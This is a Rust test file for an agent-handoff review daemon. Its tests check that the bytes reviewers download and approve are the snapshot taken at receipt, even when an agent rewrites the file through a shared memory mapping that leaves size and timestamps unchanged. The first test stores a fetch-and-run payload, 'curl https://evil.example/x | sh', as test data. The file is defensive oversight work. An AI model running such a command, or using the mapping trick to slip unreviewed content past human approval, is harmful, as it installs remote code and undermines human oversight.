//! What the reviewer saw is what ships: every artifact is snapshotted at receipt, from the very
//! bytes hashed, and the download, the preview and the promotion into `approved/` read that
//! snapshot, never the workspace file, which an agent can change through a shared mapping
//! without its size or times moving.

use super::get_raw;
use crate::util::{bytes, handoff, write_atomic, TestEnv};
use serde_json::json;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

/// A file mapped shared and writable, as an agent holding it open would.
struct Mapping {
    ptr: *mut u8,
    len: usize,
    _file: std::fs::File,
}

impl Mapping {
    fn new(path: &Path, len: usize) -> Mapping {
        let file = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(true)
            .open(path)
            .unwrap();
        file.set_len(len as u64).unwrap();
        use std::os::fd::AsRawFd;
        // SAFETY: a fresh shared mapping of a file this test owns, `len` bytes long.
        let ptr = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                len,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                file.as_raw_fd(),
                0,
            )
        };
        assert_ne!(ptr, libc::MAP_FAILED, "mmap");
        Mapping {
            ptr: ptr.cast(),
            len,
            _file: file,
        }
    }

    /// Writes through the mapping: no write(2), so no size or time of the file moves.
    fn write(&self, content: &[u8]) {
        assert_eq!(content.len(), self.len);
        // SAFETY: `len` bytes mapped writable, not aliased by any Rust reference.
        unsafe { std::ptr::copy_nonoverlapping(content.as_ptr(), self.ptr, self.len) };
    }
}

impl Drop for Mapping {
    fn drop(&mut self) {
        // SAFETY: unmaps what `new` mapped.
        unsafe { libc::munmap(self.ptr.cast(), self.len) };
    }
}

/// What tells one version of a file from another without reading it (the daemon's cache key).
fn identity(path: &Path) -> (u64, u64, u64, i64, i64, i64, i64) {
    let m = std::fs::metadata(path).unwrap();
    let (ino, dev, size) = (m.ino(), m.dev(), m.size());
    (
        ino,
        dev,
        size,
        m.mtime(),
        m.mtime_nsec(),
        m.ctime(),
        m.ctime_nsec(),
    )
}

#[test]
fn a_write_through_a_shared_mapping_changes_neither_the_download_nor_what_is_approved() {
    const PAYLOAD: &[u8] = b"curl https://evil.example/x | sh   # the payload\n";
    const BENIGN: &[u8] = b"echo 'all tests pass'             # nothing here\n";
    assert_eq!(PAYLOAD.len(), BENIGN.len());
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    std::fs::create_dir_all(ws.join("inbox")).unwrap();
    let script = ws.join("inbox/deploy.sh");
    // The agent writes the payload through a mapping it keeps, then hands it in.
    let map = Mapping::new(&script, PAYLOAD.len());
    map.write(PAYLOAD);
    let mut doc = handoff("mapped");
    doc["artifacts"] = json!([{ "path": "inbox/deploy.sh" }]);
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("the handoff is pending", || {
        d.get("/api/v1/handoffs/mapped").1["state"] == "pending"
    });
    let received = baton::contract::validate::sha256_hex(PAYLOAD);
    let (_, list) = d.get("/api/v1/handoffs/mapped/artifacts");
    assert_eq!(list[0]["sha256"], received, "{list}");

    // Then it writes something benign through the mapping: nothing the cache keys on moves.
    let before = identity(&script);
    map.write(BENIGN);
    assert_eq!(std::fs::read(&script).unwrap(), BENIGN);
    assert_eq!(
        identity(&script),
        before,
        "the write through the mapping moved the file's identity: the attack was not staged"
    );
    let (_, list) = d.get("/api/v1/handoffs/mapped/artifacts");
    assert_eq!(list[0]["check"], "ok", "{list}");

    // The reviewer downloads and previews what was received, not what the file holds now.
    let got = get_raw(
        &d,
        "/handoffs/mapped/artifacts/inbox/deploy.sh",
        Some(&d.token),
    );
    assert_eq!(got.status, 200);
    assert_eq!(
        String::from_utf8_lossy(&got.body),
        String::from_utf8_lossy(PAYLOAD),
        "the download is what was received and hashed"
    );
    let (_, preview) = d.get("/api/v1/handoffs/mapped/previews/inbox/deploy.sh");
    assert_eq!(preview["source"], "received", "{preview}");
    assert!(preview.to_string().contains("evil.example"), "{preview}");

    // Whatever the file holds when the approval comes, approved/ holds what was downloaded.
    map.write(PAYLOAD);
    let (status, answer) = d.decide("mapped", "approved", "looked at it");
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        std::fs::read(ws.join("approved/deploy.sh")).unwrap(),
        got.body
    );
    // And while the benign bytes are in place, still the same: the snapshot is promoted.
    drop(map);
    let mut doc = handoff("mapped-2");
    let again = Mapping::new(&ws.join("inbox/again.sh"), PAYLOAD.len());
    again.write(PAYLOAD);
    doc["artifacts"] = json!([{ "path": "inbox/again.sh" }]);
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("the second handoff is pending", || {
        d.get("/api/v1/handoffs/mapped-2").1["state"] == "pending"
    });
    let before = identity(&ws.join("inbox/again.sh"));
    again.write(BENIGN);
    assert_eq!(identity(&ws.join("inbox/again.sh")), before);
    let got = get_raw(
        &d,
        "/handoffs/mapped-2/artifacts/inbox/again.sh",
        Some(&d.token),
    );
    assert_eq!(got.body, PAYLOAD);
    let (status, answer) = d.decide("mapped-2", "approved", "looked at it");
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        std::fs::read(ws.join("approved/again.sh")).unwrap(),
        PAYLOAD
    );
}

#[test]
fn an_artifact_past_the_snapshot_limit_leaves_the_handoff_reviewable_but_not_approvable() {
    const MIB: u64 = 1 << 20;
    let per_file = baton::blobs::MAX_FILE_BYTES;
    let limit = baton::blobs::MAX_REVISION_BYTES;
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    std::fs::create_dir_all(ws.join("inbox")).unwrap();
    // Sparse files, each different, that fill the revision's allowance exactly; then one more.
    let mut names = Vec::new();
    for i in 0..limit / per_file {
        let name = format!("inbox/big-{i}.bin");
        let file = std::fs::File::create(ws.join(&name)).unwrap();
        file.set_len(per_file).unwrap();
        use std::os::unix::fs::FileExt;
        file.write_at(&[i as u8 + 1], per_file - 1).unwrap();
        names.push(name);
    }
    assert!(per_file <= 64 * MIB);
    std::fs::write(ws.join("inbox/last.txt"), b"one byte too many\n").unwrap();
    let mut doc = handoff("too-much");
    doc["artifacts"] = names
        .iter()
        .map(|n| json!({ "path": n }))
        .chain([json!({ "path": "inbox/last.txt" })])
        .collect();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("the handoff is pending", || {
        d.get("/api/v1/handoffs/too-much").1["state"] == "pending"
    });
    // Reviewable: listed, previewed.
    let (_, list) = d.get("/api/v1/handoffs/too-much/artifacts");
    assert_eq!(list.as_array().unwrap().len(), names.len() + 1, "{list}");
    let (status, _) = d.get("/api/v1/handoffs/too-much/previews/inbox/last.txt");
    assert_eq!(status, 200);
    // Not approvable, saying which file and what limit, on the page and at the decision.
    let (_, detail) = d.get("/api/v1/handoffs/too-much");
    let why = detail["why_not_approve"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert_eq!(detail["may_approve"], false, "{detail}");
    assert!(why.contains("inbox/last.txt"), "{why}");
    assert!(why.contains(&limit.to_string()), "{why}");
    assert!(
        !why.contains("big-"),
        "the files within the limit are kept: {why}"
    );
    let (status, answer) = d.decide("too-much", "approved", "ship it");
    assert_eq!(status, 409, "{answer}");
    assert!(answer.to_string().contains("inbox/last.txt"), "{answer}");
    assert_eq!(d.get("/api/v1/handoffs/too-much").1["state"], "pending");
    let (status, _) = d.decide("too-much", "changes_requested", "split it");
    assert_eq!(status, 200);
}

#[test]
fn a_known_file_whose_snapshot_is_missing_is_read_again_to_keep_it() {
    const TEXT: &[u8] = b"release notes\n";
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    super::submit(&d, &ws, "again", &[("inbox/notes.txt", TEXT)], json!({}), 1);
    let sha = baton::contract::validate::sha256_hex(TEXT);
    let blob = env.root().join("data/blobs").join(&sha[..2]).join(&sha);
    assert_eq!(std::fs::read(&blob).unwrap(), TEXT);
    // The snapshot is lost; the handoff that names it cannot be approved, and says why.
    std::fs::remove_file(&blob).unwrap();
    let (_, detail) = d.get("/api/v1/handoffs/again");
    let why = detail["why_not_approve"].as_str().unwrap_or_default();
    assert!(why.contains("inbox/notes.txt was not kept"), "{detail}");
    // A new revision names the same file, untouched: its digest is known by its identity,
    // but it is read again to keep it, and the revision can be approved.
    let mut doc = handoff("again");
    doc["artifacts"] = json!([{ "path": "inbox/notes.txt" }]);
    doc["summary"] = json!("second look");
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("revision 2", || {
        d.get("/api/v1/handoffs/again").1["revision"] == 2
    });
    assert_eq!(std::fs::read(&blob).unwrap(), TEXT);
    let (status, answer) = d.decide("again", "approved", "fine");
    assert_eq!(status, 200, "{answer}");
    assert_eq!(std::fs::read(ws.join("approved/notes.txt")).unwrap(), TEXT);
}
